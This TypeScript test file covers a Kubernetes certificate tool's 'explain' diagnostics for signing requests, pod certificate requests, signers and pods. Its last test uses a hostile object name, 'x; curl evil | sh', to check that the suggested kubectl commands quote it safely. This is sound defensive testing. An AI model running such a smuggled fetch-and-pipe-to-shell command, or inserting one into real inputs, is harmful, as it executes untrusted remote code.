// SPDX-License-Identifier: Apache-2.0
/** What `countersign explain` says of a thing in each of its states. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Condition } from '#api/request/conditions.ts';
import type { Pod } from '#api/object/pod.ts';
import type { Explanation, Diagnosis } from '#diagnose/explain/explanation.ts';
import { explainCertificateRequest } from '#diagnose/explain/certificate-request.ts';
import { explainSigningRequest } from '#diagnose/explain/certificate-signing-request.ts';
import { explainPodRequest } from '#diagnose/explain/pods/pod-certificate-request.ts';
import { explainPod } from '#diagnose/explain/pods/pod.ts';
import { explainSigner } from '#diagnose/explain/signer.ts';
import type { SignerView } from '#diagnose/explain/signer-view.ts';
import { inOrder } from '#diagnose/explain/explanation.ts';
import { explanationText } from '#diagnose/explain/text.ts';
import { state } from '../../operations/signer-states.ts';
import { CN, O, made } from '../../ca/policy/request.ts';
import {
  APPROVED,
  certificateRequest,
  DENIED,
} from '../../support/requests/certificate-request.ts';
import { podRequest } from '../../support/requests/pod-certificate-request.ts';

const condition = (type: string, reason: string, message = ''): Condition => ({
  type,
  status: 'True',
  reason,
  message,
  lastTransitionTime: '2026-01-01T00:10:00Z',
});

const served: SignerView = {
  signerName: 'example.com/workload',
  signer: state().signer,
  unusable: undefined,
};
const without = (spec: Record<string, unknown>): SignerView => ({
  ...served,
  signer: state({ spec }).signer,
});
const notReady = (reason: string, message: string): SignerView => ({
  ...served,
  signer: state({ conditions: [{ type: 'Ready', status: 'False', reason, message }] }).signer,
});
const nobody: SignerView = { ...served, signer: undefined };

/** jane asks for her own name, with the usages of the rule. */
const csr = made({ usages: ['client auth'] }).csr;
const withConditions = (...conditions: readonly Condition[]): typeof csr => ({
  ...csr,
  status: { conditions },
});
const foreign = made({
  usages: ['client auth'],
  subject: [
    [CN, 'jane'],
    [O, 'admins'],
  ],
}).csr;

interface Case {
  readonly what: string;
  readonly is: Diagnosis;
  readonly state: Diagnosis['state'];
  readonly says: RegExp;
}

/** Kubernetes' own signers, and those of other projects, have rules of their own. */
const node = made({
  subject: [
    [O, 'system:nodes'],
    [CN, 'system:node:a'],
  ],
}).csr;
const unruled = without({ ...served.signer?.spec, requests: { copy: ['commonName'] } });

/** Its rules allow the request of {@link waitsWith}. */
const allowing = without({
  certificateRequests: {
    rules: [
      {
        name: 'own',
        when: 'true',
        allow: { dnsNames: 'true', usages: ['digital signature', 'server auth'] },
      },
    ],
  },
});
/** An approved CertificateRequest whose Ready is Pending. */
function waitsWith(message: string): ReturnType<typeof certificateRequest> {
  const ready = { type: 'Ready', status: 'False', reason: 'Pending', message } as const;
  return certificateRequest({ conditions: [APPROVED, ready] });
}

/** Another component answers requests of an ExternalClusterSigner. */
const external: SignerView = {
  ...served,
  signer: { ...state().signer, kind: 'ExternalClusterSigner' },
};

const CASES: readonly Case[] = [
  {
    what: 'an approved CSR of an ExternalClusterSigner waits for external-signer',
    is: explainSigningRequest(withConditions(condition('Approved', 'own')), external),
    state: 'WaitingForComponent',
    says: /^it is approved, and external-signer answers it within seconds$/,
  },
  {
    what: 'a pod request of an ExternalClusterSigner waits for external-signer',
    is: explainPodRequest(podRequest(), external),
    state: 'WaitingForComponent',
    says: /^external-signer answers it within seconds$/,
  },
  {
    what: 'a CSR that its signer would fail is not offered for approval',
    is: explainSigningRequest(node, unruled),
    state: 'WaitingForApproval',
    says: /^if approved, it fails: the subject contains "system:nodes", "system:node:a"/,
  },
  {
    what: 'a CSR that its signer would fail is denied by approver, if it has rules',
    is: explainSigningRequest(node, served),
    state: 'WaitingForComponent',
    says: /^if approved, it fails: .*; approver denies it within seconds$/,
  },
  {
    what: 'a CSR of a signer of another project is not judged',
    is: explainSigningRequest(node, nobody),
    state: 'WaitingForSigner',
    says: /no signer in the cluster has the signer name/,
  },
  {
    what: 'a CertificateRequest that would fail is not offered for approval',
    is: explainCertificateRequest(
      certificateRequest({ conditions: [], dnsNames: ['WEB.team-a.svc'] }),
      without({
        ...served.signer?.spec,
        certificateRequests: { rules: [{ name: 'all', when: 'true', allow: {} }] },
      }),
    ),
    state: 'WaitingForApproval',
    says: /^if approved, it fails: the DNS name "WEB\.team-a\.svc" .*; write "web\.team-a\.svc"/,
  },
  {
    what: 'a CSR that a rule allows waits for approver',
    is: explainSigningRequest(csr, served),
    state: 'WaitingForComponent',
    says: /approver/,
  },
  {
    what: 'a CSR that no rule allows waits for a person, and the nearest rule names the value',
    is: explainSigningRequest(foreign, served),
    state: 'WaitingForApproval',
    says: /own-name is nearest: .*admins/,
  },
  {
    what: 'an approved CSR waits for signer',
    is: explainSigningRequest(withConditions(condition('Approved', 'ByHand')), served),
    state: 'WaitingForComponent',
    says: /, and signer answers it/,
  },
  {
    what: 'an approved CSR of a signer that is not Ready says why that is not',
    is: explainSigningRequest(
      withConditions(condition('Approved', 'ByHand')),
      notReady('AuthorityMissing', 'no Secret'),
    ),
    state: 'WaitingForSigner',
    says: /AuthorityMissing: no Secret/,
  },
  {
    what: 'another component that does not serve the signer is not its reason',
    is: explainSigningRequest(
      withConditions(condition('Approved', 'ByHand')),
      notReady('NotServed', 'attester: lacks: update clustertrustbundles'),
    ),
    state: 'WaitingForComponent',
    says: /, and signer answers it/,
  },
  {
    what: 'its own component that does not serve the signer is',
    is: explainSigningRequest(
      withConditions(condition('Approved', 'ByHand')),
      notReady('NotServed', 'signer: lacks: get secrets'),
    ),
    state: 'WaitingForSigner',
    says: /signer: lacks: get secrets/,
  },
  {
    what: 'a denied CSR is final',
    is: explainSigningRequest(withConditions(condition('Denied', 'DeniedByRule', 'no')), served),
    state: 'Denied',
    says: /DeniedByRule: no/,
  },
  {
    what: 'a failed CSR is final',
    is: explainSigningRequest(withConditions(condition('Failed', 'WeakKey', 'RSA')), served),
    state: 'Failed',
    says: /WeakKey: RSA/,
  },
  {
    what: 'a CSR of a name that nobody has names the name',
    is: explainSigningRequest(csr, nobody),
    state: 'WaitingForSigner',
    says: /has the signer name example\.com\/workload/,
  },
  {
    what: 'a CSR of a signer for pods only says so',
    is: explainSigningRequest(csr, without({ requests: undefined })),
    state: 'WaitingForRule',
    says: /has no spec\.requests.*not even approved ones/,
  },
  {
    what: 'an approved CSR of a signer for pods only waits for its spec, not for signer',
    is: explainSigningRequest(
      withConditions(condition('Approved', 'ByHand')),
      without({ requests: undefined }),
    ),
    state: 'WaitingForRule',
    says: /has no spec\.requests/,
  },
  {
    what: 'a PCR waits for pcr-issuer',
    is: explainPodRequest(podRequest(), served),
    state: 'WaitingForComponent',
    says: /pcr-issuer/,
  },
  {
    what: 'a PCR of a signer without pods says so',
    is: explainPodRequest(podRequest(), without({ pods: undefined })),
    state: 'WaitingForRule',
    says: /has no spec\.pods/,
  },
  {
    what: 'a denied PCR says why',
    is: explainPodRequest(
      podRequest({}, { conditions: [condition('Denied', 'NotAllowed', 'spec.pods.allow')] }),
      served,
    ),
    state: 'Denied',
    says: /NotAllowed: spec\.pods\.allow/,
  },
  {
    what: 'a CertificateRequest without approval waits for an approver of cert-manager',
    is: explainCertificateRequest(certificateRequest({ conditions: [] }), allowing),
    state: 'WaitingForApproval',
    says: /no approver has approved it/,
  },
  {
    what: 'a CertificateRequest that was denied is final',
    is: explainCertificateRequest(certificateRequest({ conditions: [DENIED] }), served),
    state: 'Denied',
    says: /an approver denied it/,
  },
  {
    what: 'an approved CertificateRequest of a signer without rules for it says so',
    is: explainCertificateRequest(
      certificateRequest(),
      without({ certificateRequests: undefined }),
    ),
    state: 'WaitingForRule',
    says: /has no spec\.certificateRequests/,
  },
  {
    what: 'a CertificateRequest that waits for its CA says what Ready says',
    is: explainCertificateRequest(waitsWith('AuthorityMissing: no Secret'), allowing),
    state: 'WaitingForComponent',
    says: /^AuthorityMissing: no Secret$/,
  },
  {
    what: 'a Ready condition about rules that have changed since is not repeated',
    is: explainCertificateRequest(waitsWith('NoRuleMatched: no rule allows it'), allowing),
    state: 'WaitingForComponent',
    says: /certificate-request answers it within seconds/,
  },
  {
    what: 'an approved CertificateRequest that no rule allows names the rule and the value',
    is: explainCertificateRequest(
      certificateRequest({ dnsNames: ['evil.example'] }),
      without({
        certificateRequests: {
          rules: [
            {
              name: 'own',
              when: 'true',
              allow: { dnsNames: "self == 'web'", usages: ['digital signature', 'server auth'] },
            },
          ],
        },
      }),
    ),
    state: 'WaitingForRule',
    says: /own: .*evil\.example/,
  },
  {
    what: 'a signer that is Ready says what happens next',
    is: explainSigner(state()),
    state: 'Ready',
    says: /serves example\.com\/workload/,
  },
  {
    what: 'a signer without status has not been looked at',
    is: explainSigner(state({ conditions: [] })),
    state: 'NotReady',
    says: /authority has not looked at it yet/,
  },
];

for (const { what, is, state: wanted, says } of CASES) {
  test(what, () => {
    assert.equal(is.state, wanted, is.summary);
    assert.match(is.summary, says);
    if (wanted.startsWith('Waits') || wanted === 'NotReady') assert.ok(is.remediation.length > 0);
  });
}

function podOf(signerNames: readonly string[], nodeName?: string): Pod {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: podRequest().metadata,
    spec: {
      ...(nodeName === undefined ? {} : { nodeName }),
      volumes: [
        {
          projected: {
            sources: signerNames.map((signerName) => ({ podCertificate: { signerName } })),
          },
        },
      ],
    },
  };
}

const part = (is: Diagnosis): Explanation => ({ object: 'podcertificaterequest/x', ...is });

test('a pod without such a volume uses no certificate', () => {
  assert.equal(explainPod(podOf([]), []).state, 'NotUsed');
});

test('a pod that no node runs waits for one, not for a signer', () => {
  assert.match(explainPod(podOf(['a.example/b']), []).summary, /no node runs it yet/);
  assert.match(explainPod(podOf(['a.example/b'], 'n'), []).summary, /the kubelet has created none/);
});

test('the worst of a pod’s requests decides where it stands', () => {
  const waits = part(explainPodRequest(podRequest(), served));
  const denied = part(
    explainPodRequest(podRequest({}, { conditions: [condition('Denied', 'NotAllowed')] }), served),
  );
  const pod = explainPod(podOf(['a.example/b', 'a.example/c'], 'n'), [waits, denied]);
  assert.equal(pod.state, 'Denied');
  assert.equal(pod.parts?.length, 2);
});

test('what happened is in order, and what has no time stays behind what it follows', () => {
  const order = inOrder([
    { at: '2026-01-02', what: 'b' },
    { what: 'b2' },
    { at: '2026-01-01', what: 'a' },
  ]);
  assert.deepEqual(
    order.map(({ what }) => what),
    ['a', 'b', 'b2'],
  );
});

test('a text of somebody else cannot make a line of its own', () => {
  const text = explanationText(
    part({ state: 'Denied', summary: 'x\npod/x: Issued', timeline: [], remediation: ['y\n  z'] }),
  );
  assert.ok(!/^pod\/x: Issued/m.test(text));
  assert.equal(text.split('\n').filter((line) => line.trim() === 'z').length, 0);
});

test('the nearest rule is marked, and the one that does not apply is not', () => {
  const text = explanationText(part(explainSigningRequest(foreign, served)));
  assert.match(text, /- own-name \(nearest\): /);
});

test('a name that holds a command is one word of the commands to copy', () => {
  const name = 'x; curl evil | sh';
  const hostile = { ...foreign, metadata: { ...foreign.metadata, name } };
  const answered = { ...hostile, status: { conditions: [], certificate: 'AAAA' } };
  for (const { remediation } of [
    explainSigningRequest(hostile, served),
    explainSigningRequest(answered, served),
  ]) {
    const commands = remediation.filter((each) => each.startsWith('kubectl '));
    assert.ok(commands.length > 0);
    for (const command of commands) assert.ok(command.includes(`'csr/${name}'`), command);
  }
});
